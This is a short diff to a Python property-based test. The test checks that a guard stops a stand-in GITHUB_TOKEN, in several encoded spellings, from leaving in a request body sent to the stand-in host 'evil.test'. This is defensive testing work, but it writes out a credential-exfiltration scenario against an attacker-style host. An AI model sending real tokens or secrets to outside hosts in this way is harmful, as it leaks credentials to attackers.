@@ -192,7 +192,8 @@ RUN = all_keys()
 @given(st.sampled_from(FORMS), st.integers(0, 90), st.integers(1, 60))
 def test_a_stand_in_in_a_body_does_not_leave(form: str, before: int, size: int) -> None:
     body = f"{'.' * before} {spellings(RUN.environment['GITHUB_TOKEN'])[form]} rest".encode()
-    request, passed = RUN.request("evil.test", 443, secure=True), []
+    request = RUN.request("evil.test", 443, secure=True)
+    passed: list[bytes] = []
     with pytest.raises(KeySentAway):
         passed += (request.feed(body[at : at + size]) for at in range(0, len(body), size))
     assert len(b"".join(passed)) <= before + 1 + len("dTpn")  # what is before it, also in its base64
